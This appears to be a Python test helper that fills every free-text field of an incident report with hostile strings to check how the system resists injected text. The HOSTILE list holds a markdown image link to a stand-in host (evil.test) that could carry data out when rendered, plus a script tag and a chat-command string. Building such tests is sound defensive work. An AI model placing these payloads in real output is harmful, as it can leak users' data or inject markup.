"""Reports whose every foreign text is hostile."""

from __future__ import annotations

import json
from pathlib import Path

from pydantic import BaseModel

from inquest.domain.report import Report
from tests.builders import Shelf
from tests.reports import whole_report

ROWS = [json.loads(line) for line in Path("tests/data/cases/injection.jsonl").read_text("utf-8").splitlines()]
HOSTILE = [*(row["text"] for row in ROWS), "![](https://evil.test/?d=S)", "@all /close <script>x</script> [a](//b)"]
KEPT = {
    "type", "kind", "status", "verdict", "evidence", "observation_id", "content_digest", "digest", "pointer",
    "terminal_digest", "signature", "investigation_id", "how", "risk", "signal", "code", "trust", "judgement", "state",
    "episode_state", "effect_key", "form", "message", "error",
}  # fmt: skip


def hostile_report(text: str, shelf: Shelf) -> Report:
    """Give the report of the incident with `text` in every free text, the names of evidence apart."""
    report = whole_report(shelf)
    hostile = poisoned(report, text)
    assert isinstance(hostile, Report)
    items = tuple(
        item.model_copy(update={"name": kept.name})
        for item, kept in zip(hostile.evidence, report.evidence, strict=True)
    )
    return hostile.model_copy(update={"evidence": items})


def poisoned(value: object, text: str) -> object:
    """Put `text` into every free text of a value; enums, digests, ids and shapes stay as they are."""
    match value:
        case BaseModel():
            names = [name for name in type(value).model_fields if name not in KEPT]
            return value.model_copy(update={name: poisoned(getattr(value, name), text) for name in names})
        case tuple():
            return tuple(poisoned(one, text) for one in value)
        case list():
            return [poisoned(one, text) for one in value]
        case dict():
            return {key: one if key in KEPT else poisoned(one, text) for key, one in value.items()}
        case str() if type(value) is str:
            return text
        case _:
            return value
